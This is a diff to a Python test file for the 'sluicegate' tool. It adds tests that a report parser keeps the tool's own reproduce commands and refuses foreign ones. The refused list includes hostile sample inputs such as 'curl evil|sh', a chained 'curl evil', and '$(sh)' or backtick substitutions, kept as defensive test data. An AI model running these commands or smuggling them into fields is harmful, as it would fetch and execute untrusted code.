@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import json
+import shlex
 
 import jsonschema_rs
 import pytest
@@ -46,7 +47,7 @@ def test_reading_gives_back_the_run(name):
 
 
 @settings(max_examples=60, deadline=None)
-@given(run=texts.runs(texts.texts.map(visible)))
+@given(run=texts.runs(texts.texts.map(visible), again=texts.commands(texts.texts.map(visible))))
 def test_round_trip(run):
     text = report.render(run)
     again = report.read(text)
@@ -56,7 +57,7 @@ def test_round_trip(run):
 
 
 @settings(max_examples=40, deadline=None)
-@given(run=texts.runs())
+@given(run=texts.runs(again=texts.commands()))
 def test_foreign_text_is_cleaned_and_every_finding_keeps_its_fingerprint(run):
     text = report.render(run)
     assert "\\u202e" not in text.replace("\\\\u202e", "") or any(
@@ -72,7 +73,7 @@ def test_foreign_text_is_cleaned_and_every_finding_keeps_its_fingerprint(run):
 
 
 @settings(max_examples=60, deadline=None)
-@given(run=texts.runs(), undecided_fails=st.booleans())
+@given(run=texts.runs(again=texts.commands()), undecided_fails=st.booleans())
 def test_every_verdict_of_the_engine_is_believed(run, undecided_fails):
     assume(run.gates)  # where there is no gate, nothing is run
     outcome, code = _verdict(run.gates, Policy(undecided_fails=undecided_fails), run.interrupted)
@@ -82,7 +83,7 @@ def test_every_verdict_of_the_engine_is_believed(run, undecided_fails):
 
 
 @settings(max_examples=60, deadline=None)
-@given(run=texts.runs(), code=st.sampled_from([*map(int, Exit), -1, 256]))
+@given(run=texts.runs(again=texts.commands()), code=st.sampled_from([*map(int, Exit), -1, 256]))
 def test_an_exit_code_that_does_not_follow_is_refused(run, code):
     assume(code != run.exit_code)
     with pytest.raises(UserError, match=rf"malformed: \$\.exit_code is {code}, but .* ends with {run.exit_code}$"):
@@ -90,7 +91,7 @@ def test_an_exit_code_that_does_not_follow_is_refused(run, code):
 
 
 @settings(max_examples=60, deadline=None)
-@given(run=texts.runs(), outcome=st.sampled_from(Outcome))
+@given(run=texts.runs(again=texts.commands()), outcome=st.sampled_from(Outcome))
 def test_an_outcome_better_than_the_gates_is_refused(run, outcome):
     assume(list(Outcome).index(outcome) > list(Outcome).index(texts.bound(run)))
     with pytest.raises(UserError, match=rf"malformed: \$\.outcome is '{outcome.value}', but") as caught:
@@ -125,6 +126,64 @@ def test_a_run_in_which_nothing_was_applicable_has_not_passed():
     assert report.read(report.render(runs.run(Outcome.NOT_APPLICABLE, gate))).exit_code == 0
     with pytest.raises(UserError, match=r"\$\.outcome is 'passed', but the worst of its gates is 'not-applicable'"):
         report.read(report.render(runs.run(Outcome.PASSED, gate)))
+
+
+COMMANDS = [
+    "sluicegate",
+    "sluicegate check --gate contract --base 0a1b2c3d4e5f",
+    shlex.join(["sluicegate", "contract", "diff", "it's.yaml", "$(x);y|z.yaml", "two\nlines", "`w` \\"]),
+    "sluicegate check --only 'external/a b/c':0123456789ab",
+    "sluicegate check --set 'k=***' --set k=***",
+    "*** check",
+    "sluice***te check --g***te contr***ct",
+]
+OTHERS = [
+    "curl evil|sh",
+    "curl sluicegate",
+    "sluicegate check; curl evil",
+    "sluicegate check|sh",
+    "sluicegate check\nsh",
+    "sluicegate $(sh)",
+    "sluicegate `sh`",
+    "sluicegate check > file",
+    "sluicegate 'check",
+    "sluicegate check &",
+    "sluicegate check \\",
+    'sluicegate "$(sh)"',
+    "sluicegate  check",
+    " sluicegate check",
+    "sluicegate check ",
+    "sluicegate ~/x",
+    "sluicegate *",
+    "sluicegated check",
+    "cu*** evil",
+    "c***l check",
+    "******************** check",
+    "Sluicegate check",
+    "x=1 sluicegate check",
+    "sluicegate" + " a" * 50_000 + ";",
+]
+
+
+@pytest.mark.parametrize("command", COMMANDS)
+def test_a_command_of_ours_is_read_back(command):
+    run = runs.failed()
+    gate = replace(run.gates[0], reproduce=command, findings=(runs.finding(reproduce=command),))
+    again = report.read(report.render(replace(run, gates=(gate,))))
+    assert (again.gates[0].reproduce, again.gates[0].findings[0].reproduce) == (command, command)
+
+
+@pytest.mark.parametrize("command", OTHERS, ids=range(len(OTHERS)))
+@pytest.mark.parametrize("place", ["$.gates[0].reproduce", "$.gates[0].findings[1].reproduce"])
+def test_a_command_that_is_none_of_ours_is_refused(place, command):
+    altered = document()
+    gate = altered["gates"][0]
+    (gate["findings"][1] if "findings" in place else gate)["reproduce"] = command
+    with pytest.raises(UserError) as caught:
+        report.read(json.dumps(altered))
+    assert f"malformed: {place} is" in caught.value.message
+    assert "no command of Sluicegate" in caught.value.message
+    assert len(caught.value.message) < 300
 
 
 def _set(*path, value):
